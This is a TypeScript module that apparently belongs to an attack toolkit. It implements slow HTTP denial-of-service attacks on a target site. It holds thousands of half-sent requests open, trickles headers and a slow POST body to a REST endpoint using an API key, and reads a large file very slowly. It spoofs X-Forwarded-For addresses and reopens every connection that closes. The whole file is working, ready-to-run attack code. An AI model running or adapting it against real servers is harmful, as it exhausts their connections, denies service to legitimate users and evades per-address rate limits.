import { randomUUID } from 'node:crypto'
import { type Socket, connect } from 'node:net'
import type { Weapon } from './attacks.ts'

const writers = 50
const readers = 20
/** Connections with the beginning of a request that never ends. */
const idlers = 2000
const readEveryMs = 125
const readAtOnce = 1024

/**
 * Keeps connections open that send, or read, hardly anything; closed ones are opened again.
 * @param largeFile address of a file of the site.
 * @returns a function that ends them.
 */
export function startSlowAttacks(
  siteUrl: string,
  { key }: Weapon,
  address: () => string,
  largeFile: string,
): () => void {
  const { hostname, port } = new URL(siteUrl)
  const host = `Host: ${hostname}:${port}\r\n`
  const sockets = new Set<Socket>()
  const timers = new Set<NodeJS.Timeout>()
  let isOver = false

  const open = (begin: (socket: Socket) => NodeJS.Timeout) => {
    if (isOver) return
    const socket = connect(Number(port), hostname)
    sockets.add(socket)
    const timer = begin(socket)
    timers.add(timer)
    socket.on('error', () => undefined)
    socket.once('close', () => {
      sockets.delete(socket)
      clearInterval(timer)
      timers.delete(timer)
      setTimeout(() => open(begin), 1000).unref()
    })
  }

  const writeHeaders = (socket: Socket) => {
    socket.resume()
    socket.write(`GET / HTTP/1.1\r\n${host}X-Forwarded-For: ${address()}\r\n`)
    return setInterval(() => socket.write(`X-${randomUUID()}: a\r\n`), 5000)
  }
  const sayNothing = (socket: Socket) => {
    socket.resume()
    socket.write(`GET / HTTP/1.1\r\n${host}`)
    return setInterval(() => undefined, readEveryMs * 1000)
  }
  const writeBody = (socket: Socket) => {
    socket.resume()
    socket.write(
      `POST /rest/v1/inquiries HTTP/1.1\r\n${host}X-Forwarded-For: ${address()}\r\napikey: ${key}\r\n` +
        'Content-Type: application/json\r\nContent-Length: 500000\r\n\r\n{"message":"',
    )
    return setInterval(() => socket.write('x'), 1000)
  }
  const readSlowly = (socket: Socket) => {
    socket.write(`GET ${largeFile} HTTP/1.1\r\n${host}X-Forwarded-For: ${address()}\r\n\r\n`)
    socket.pause()
    return setInterval(() => socket.read(readAtOnce), readEveryMs)
  }

  for (let place = 0; place < writers; place++) open(place % 2 === 0 ? writeHeaders : writeBody)
  for (let place = 0; place < readers; place++) open(readSlowly)
  for (let place = 0; place < idlers; place++) open(sayNothing)
  return () => {
    isOver = true
    for (const timer of timers) clearInterval(timer)
    for (const socket of sockets) socket.destroy()
  }
}
